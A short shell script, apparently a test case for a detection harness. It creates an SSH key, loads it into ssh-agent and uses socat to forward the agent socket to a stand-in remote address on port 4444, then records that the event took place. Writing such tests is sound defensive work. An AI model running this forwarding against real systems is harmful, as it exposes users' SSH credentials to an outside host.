#!/bin/sh
. /opt/case/case.sh

ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
eval "$(ssh-agent -s)" >/dev/null
ssh-add -q /root/.ssh/id_ed25519
timeout 3 socat "UNIX-CONNECT:$SSH_AUTH_SOCK" TCP:203.0.113.10:4444 >/dev/null 2>&1 || true
ssh-add -l | grep -q ED25519
kill "$SSH_AGENT_PID"
took_place
